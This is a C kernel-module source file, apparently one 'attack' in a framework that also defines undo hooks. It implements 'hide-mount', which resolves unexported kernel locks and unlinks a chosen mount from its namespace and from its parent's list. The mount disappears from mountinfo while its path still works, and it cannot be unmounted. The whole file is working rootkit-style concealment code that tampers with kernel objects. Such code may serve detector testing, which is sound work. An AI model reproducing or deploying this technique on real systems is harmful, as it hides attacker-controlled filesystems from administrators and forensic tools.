// SPDX-License-Identifier: GPL-2.0-only
/*
 * hide-mount: takes a mount out of its namespace, which mountinfo shows, and
 * out of its parent's list. A path still leads to it, by the table of mount
 * points. Nobody may unmount it before undo.
 */
#include <linux/dcache.h>
#include <linux/kernel.h>
#include <linux/list.h>
#include <linux/mount.h>
#include <linux/namei.h>
#include <linux/ns_common.h>
#include <linux/path.h>
#include <linux/rbtree.h>
#include <linux/rwsem.h>
#include <linux/seqlock.h>
#include <linux/version.h>

#include "attacks.h"

/*
 * The beginnings of two structures of fs/mount.h, which modules do not get, as
 * Linux 6.1 and 6.12 have them.
 */
struct mount {
	struct hlist_node hash;
	struct mount *parent;
	struct dentry *point;
	struct vfsmount mnt;
	union {
#if LINUX_VERSION_CODE >= KERNEL_VERSION(6, 8, 0)
		struct rb_node node;
#endif
		struct rcu_head rcu;
	};
	void *counts;
	struct list_head mounts, child, instance;
	const char *source;
	struct list_head list, expire, share, slaves, slave;
	struct mount *master;
	struct mnt_namespace *namespace;
	void *covered;
	struct hlist_node covers;
	struct list_head umounting;
	void *marks;
	u32 mask;
	int id;
	u64 unique;	/* since Linux 6.8 */
};

struct mnt_namespace {
	struct ns_common ns;
	struct mount *root;
#if LINUX_VERSION_CODE >= KERNEL_VERSION(6, 8, 0)
	struct rb_root mounts;
#else
	struct list_head list;
#endif
};

#if LINUX_VERSION_CODE >= KERNEL_VERSION(6, 8, 0)
static void take_out(struct mount *mount)
{
	rb_erase(&mount->node, &mount->namespace->mounts);
}

static void put_back(struct mount *mount)
{
	struct rb_node **at = &mount->namespace->mounts.rb_node, *above = NULL;

	while (*at) {
		above = *at;
		at = mount->unique < rb_entry(above, struct mount, node)->unique ?
			&above->rb_left : &above->rb_right;
	}
	rb_link_node(&mount->node, above, at);
	rb_insert_color(&mount->node, &mount->namespace->mounts);
}
#else
static void take_out(struct mount *mount)
{
	list_del_init(&mount->list);
}

static void put_back(struct mount *mount)
{
	list_add_tail(&mount->list, &mount->namespace->list);
}
#endif

/* Neither is exported. */
static struct rw_semaphore *namespaces;
static seqlock_t *lock;
static struct path hidden;

static int hide_begin(struct attack *attack, char *argument)
{
	struct mount *mount;
	int error;

	namespaces = (void *)symbol("namespace_sem");
	lock = (void *)symbol("mount_lock");
	if (!namespaces || !lock)
		return -ENOENT;
	error = kern_path(argument, LOOKUP_FOLLOW, &hidden);
	if (error)
		return error;
	mount = container_of(hidden.mnt, struct mount, mnt);
	if (hidden.dentry != hidden.mnt->mnt_root || mount->parent == mount) {
		path_put(&hidden);
		return -EINVAL;
	}
	down_write(namespaces);
	write_seqlock(lock);
	take_out(mount);
	list_del_init(&mount->child);
	write_sequnlock(lock);
	up_write(namespaces);
	attack_mark(attack, argument);
	return 0;
}

static void hide_undo(struct attack *attack)
{
	struct mount *mount = container_of(hidden.mnt, struct mount, mnt);

	down_write(namespaces);
	write_seqlock(lock);
	put_back(mount);
	list_add_tail(&mount->child, &mount->parent->mounts);
	write_sequnlock(lock);
	up_write(namespaces);
	path_put(&hidden);
}

struct attack hide_mount = {
	.name = "hide-mount",
	.begin = hide_begin,
	.undo = hide_undo,
	.present = attack_stays,
};
